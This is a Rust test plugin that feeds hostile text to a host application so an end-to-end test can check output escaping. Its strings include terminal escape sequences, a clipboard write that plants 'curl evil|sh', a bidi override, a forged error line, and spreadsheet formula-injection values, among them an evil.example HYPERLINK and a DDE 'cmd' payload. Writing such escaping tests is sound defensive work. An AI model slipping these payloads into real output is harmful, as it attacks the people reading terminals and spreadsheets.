//! Sends text meant to attack whoever reads the host's output: terminal control sequences
//! (`ESC[2J` clear screen, OSC 0 window title, OSC 52 clipboard write, colours), BEL, BS, NUL,
//! VT, CR, the C1 CSI, U+202E RIGHT-TO-LEFT OVERRIDE, newlines that start a forged `error:` line,
//! and spreadsheet formulas (`=HYPERLINK(…)`, `+1`, `-2`, `@SUM(1)`, a leading TAB) in the names,
//! part numbers, departments, statuses, warnings, log messages, progress phases and check
//! findings it reports. By its `mode` setting: `succeed` emits products, accounts, assignments
//! and a subscription carrying such text and succeeds with such warnings; `fail` returns an
//! upstream error whose message, fix, code and request ID carry it; `bad-plan` refuses its
//! settings with such a message. `tests/e2e/escaping.rs` builds the same strings and compares
//! the host's JSON and raw CSV output with them.

use hostile_common::*;

/// Clears the screen, sets the window title, writes the clipboard, rings the bell.
const TERMINAL: &str = "\u{1b}[2J\u{1b}]0;pwned\u{7}\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}";
/// Colours, NUL, VT, BS, CR, the C1 CSI and a bidi override.
const CONTROLS: &str = "\u{1b}[31m\0\u{b}\u{8}\r\u{9b}2J\u{202e}";
/// A newline that starts a forged error line.
const FORGED: &str = "\nerror: forged";

struct EvilText;

fn text(what: &str) -> String {
    format!("{what}{TERMINAL}{CONTROLS}{FORGED} {what}")
}

/// The products: SKU ids `…e7701` to `…e7705`.
fn sku(n: u32) -> String {
    format!("00000000-0000-0000-0000-0000000e770{n}")
}

impl Collector for EvilText {
    fn describe(&self) -> Descriptor {
        let mut d = descriptor(
            "evil-text",
            "reports text that attacks terminals and spreadsheets",
        );
        d.settings.push(mode("succeed, fail or bad-plan"));
        d.produces.push(EntityKind::Assignment);
        d.produces.push(EntityKind::Subscription);
        d
    }

    fn plan(&self, settings: &Settings) -> Result<RunPlan, CollectError> {
        match setting(settings, "mode") {
            Some("succeed" | "fail") => settings::plan(&self.describe(), settings),
            _ => Err(CollectError::InvalidConfig(Failure {
                message: text("plan refused"),
                fix: Some(text("plan fix")),
                status: None,
                code: Some(text("plan code")),
                request_id: None,
            })),
        }
    }

    fn check(&self, _settings: &Settings) -> Vec<CheckFinding> {
        vec![
            CheckFinding {
                step: text("token"),
                status: CheckStatus::Fail,
                detail: text("check detail"),
                fix: Some(text("check fix")),
            },
            CheckFinding {
                step: "GET /users".into(),
                status: CheckStatus::Warn,
                detail: text("warn detail"),
                fix: Some(text("without")),
            },
        ]
    }

    /// Reads in full, giving a hostile reason why.
    fn collect_incremental(
        &self,
        settings: &Settings,
        request: CollectRequest,
    ) -> Result<Outcome, CollectError> {
        let mut outcome = Outcome::full(self.collect(settings, request.mode)?);
        outcome.full_reason = Some(text("full reason"));
        Ok(outcome)
    }

    fn collect(&self, settings: &Settings, _mode: CollectMode) -> Result<Summary, CollectError> {
        warn(&text("plugin log"));
        host::progress(&text("phase"), 1, Some(2));
        if setting(settings, "mode") == Some("fail") {
            return Err(CollectError::Upstream(Failure {
                message: text("upstream message"),
                fix: Some(text("upstream fix")),
                status: Some(503),
                code: Some(text("code")),
                request_id: Some(text("request")),
            }));
        }
        let mut formula = Product::new(sku(1), "=HYPERLINK(\"http://evil.example\",\"click\")", 1);
        formula.consumed = 4;
        let mut controls =
            Product::new(sku(2), text("part"), 10).display_name(text("product name"));
        controls.status = text("Warning");
        controls.consumed = 3;
        let products = vec![
            formula,
            controls,
            Product::new(sku(3), "+1", 5),
            Product::new(sku(4), "-2", 5),
            Product::new(sku(5), "@SUM(1)", 5),
        ];
        host::emit(&Batch::Products(products));

        let mut one = account("ev-1", &text("Zoë 山田"));
        one.principal_name = format!("ev-1{TERMINAL}@evil.example");
        one.department = Some("=HYPERLINK(\"http://evil.example\",\"x\")".into());
        one.job_title = Some(text("job"));
        let mut two = account("ev-2", "+1");
        two.enabled = false;
        two.department = Some("-2".into());
        two.job_title = Some("@SUM(1)".into());
        two.usage_location = Some("\tUS".into());
        let mut three = account("ev-3", &text("guest"));
        three.kind = AccountKind::Guest;
        three.department = Some(text("department"));
        three.mail = Some("\rmail@evil.example".into());
        host::emit(&Batch::Accounts(vec![one, two, three]));

        let mut failed = Assignment::direct("ev-1", sku(3));
        failed.state = "Error".into();
        failed.error = Some(text("CountViolation"));
        host::emit(&Batch::Assignments(vec![
            Assignment::direct("ev-1", sku(1)),
            Assignment::direct("ev-2", sku(1)),
            Assignment::direct("ev-3", sku(1)),
            Assignment::direct("ev-1", sku(2)),
            Assignment::direct("ev-2", sku(2)),
            Assignment::direct("ev-3", sku(2)),
            failed,
        ]));
        host::emit(&Batch::Subscriptions(vec![Subscription {
            id: text("subscription"),
            product_id: sku(2),
            part_number: text("part"),
            status: text("Suspended"),
            total_units: 10,
            trial: false,
            created: Some("2024-01-01T00:00:00Z".into()),
            next_lifecycle: Some("2099-01-01T00:00:00Z".into()),
            attributes: Vec::new(),
        }]));
        Ok(Summary {
            counts: vec![
                ("products".into(), 5),
                ("accounts".into(), 3),
                ("assignments".into(), 7),
                ("subscriptions".into(), 1),
                (text("count"), 1),
            ],
            warnings: vec![text("warning"), "=cmd|' /C calc'!A0".into()],
            data_quality: vec![text("sign-in activity unavailable")],
            facts: vec![("organization".into(), text("organisation"))],
        })
    }
}

register_collector!(EvilText);
